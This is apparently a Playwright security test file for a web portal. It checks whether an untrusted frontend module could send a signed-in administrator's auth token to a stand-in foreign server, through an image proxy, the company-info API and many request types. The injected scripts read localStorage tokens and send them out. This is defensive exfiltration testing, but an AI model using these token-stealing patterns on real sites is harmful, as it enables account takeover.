import { companyInfo } from '@kallos/contracts/auth/company-info';
import { pictures } from '@kallos/contracts/catalog/pictures';
import type { BrowserContext, Page } from 'playwright-core';
import { addresses } from '../addresses.ts';
import { adminToken, productUrl } from '../api.ts';
import { blockedRequests } from '../blocked-requests.ts';
import { openPage } from '../browser.ts';
import {
  type ForeignServer,
  openForeignServer,
  openRequests,
  type ExfiltrationAttempt,
} from '../exfiltration.ts';
import { openAccount } from '../portal-area.ts';
import { expect, test } from '../test.ts';

/** How many ways are tried before the arrivals are checked. */
const atOnce = 16;

let elsewhere: ForeignServer;
let admin = '';
/** The browser of a signed-in administrator. */
let page: Page;
let context: BrowserContext;
test.beforeAll(async () => {
  elsewhere = await openForeignServer();
  admin = await adminToken();
  ({ page, context } = await openPage({ stored: { auth_token: admin } }));
  // Permissions that users may have granted open no way.
  await context.grantPermissions(['notifications']);
  await openDesk(page);
});
test.afterAll(() => elsewhere.close());

/** Loads a screen of the portal's remote; throws for the card of a failed one. */
async function openDesk(desk: Page): Promise<void> {
  await desk.goto(`${productUrl()}/portal/facebook-pages`);
  await desk.getByLabel('Access token', { exact: true }).waitFor();
}

/** Runs a way in the page with the administrator's token in the address, after the way's name. */
async function takeOut(desk: Page, name: string, way: ExfiltrationAttempt): Promise<void> {
  const { origin, port } = elsewhere;
  // Written as text, because the build's helpers do not exist in the page.
  const run = `(() => {
    const to = '${origin}/${encodeURIComponent(name)}?token=' + localStorage.getItem('auth_token');
    const nonce = document.querySelector('[nonce]').nonce;
    try {
      // What it waits for, such as a face, need not come.
      Promise.resolve((${way.toString()})({ to, port: ${port}, nonce })).catch(() => undefined);
    } catch {}
  })()`;
  await desk.evaluate(run);
}

/** Uses the way that no page can close, so that earlier requests had time to arrive. */
async function isHeardAfterwards(mark: string): Promise<void> {
  await page.evaluate(`void window.open('${elsewhere.origin}/${mark}')`);
  await expect.poll(() => elsewhere.heard.some((line) => line.includes(`/${mark} `))).toBe(true);
}

async function closeTabs(): Promise<void> {
  for (const tab of context.pages()) if (tab !== page) await tab.close();
}

test.describe("a remote that sends the administrator's token elsewhere", () => {
  test('can use our server, which fetches an image from any public address', async () => {
    const picture = `${addresses().sandboxUrl}/pictures/serum-1a.jpg?token=`;
    const answer = await page.evaluate(
      async ({ path, to }) => {
        const token = localStorage.getItem('auth_token') ?? '';
        const reply = await fetch(`${path}?url=${encodeURIComponent(to + token)}`, {
          headers: { authorization: `Bearer ${token}` },
        });
        return { status: reply.status, type: reply.headers.get('content-type') };
      },
      { path: pictures.proxy.path, to: picture },
    );
    // The image arrived, so its server was called.
    expect(answer).toEqual({ status: 200, type: 'image/webp' });
  });

  test("can use our API, which accepts data from its team's account", async () => {
    const theirs = await openAccount('Κλινική Λεία');
    const { method, path } = companyInfo.save;
    const status = await page.evaluate(
      async ({ authorization, ...call }) => {
        const companyName = localStorage.getItem('auth_token');
        const body = JSON.stringify({
          companyName,
          location: 'Πάτρα',
          postFrequencyDays: 1,
          scheduledTime: '10:30',
        });
        const headers = { authorization, 'content-type': 'application/json' };
        return (await fetch(call.path, { method: call.method, headers, body })).status;
      },
      { method, path, authorization: `Bearer ${theirs.token}` },
    );
    expect(status).toBe(200);
    expect((await theirs.call(companyInfo.read)).companyInfo?.companyName).toBe(admin);
  });

  test('gets no answer on any way that a page can close', async () => {
    test.setTimeout(240_000);
    const ways = Object.entries(blockedRequests);
    // A request contains its way's name; a packet does not, and is searched in small groups.
    for (let from = 0; from < ways.length; from += atOnce) {
      const some = ways.slice(from, from + atOnce);
      for (const [name, way] of some) {
        await takeOut(page, name, way);
        expect(page.url(), name).toContain(productUrl());
      }
      for (const mark of ['first', 'second']) await isHeardAfterwards(`${mark}-mark`);
      await closeTabs();
      const taken = elsewhere.heard.splice(0).filter((line) => !line.includes('-mark '));
      expect.soft(taken, `one of ${some.map(([name]) => name).join(', ')}`).toEqual([]);
      expect(page.url()).toContain(productUrl());
    }
  });

  for (const [name, { go }] of Object.entries(openRequests))
    test(`has this way, which no page can close: ${name}`, async () => {
      const desk = await context.newPage();
      await openDesk(desk);
      elsewhere.heard.splice(0);
      await takeOut(desk, name, go);
      const taken = `/${encodeURIComponent(name)}?token=`;
      await expect
        .poll(() => elsewhere.heard.some((line) => line === 'a packet' || line.includes(taken)))
        .toBe(true);
      await closeTabs();
    });

  test('is unknown to the page that opened it', async () => {
    const opener = await context.newPage();
    await opener.goto(`${elsewhere.origin}/opener`);
    const opened = context.waitForEvent('page');
    await opener.evaluate(`void window.open('${productUrl()}/business/login', 'loot')`);
    const desk = await opened;
    await desk.getByRole('heading', { level: 1 }).waitFor();
    expect(await desk.evaluate(() => [opener, parent === window, window.name])).toEqual([null, true, '']);
  });
});
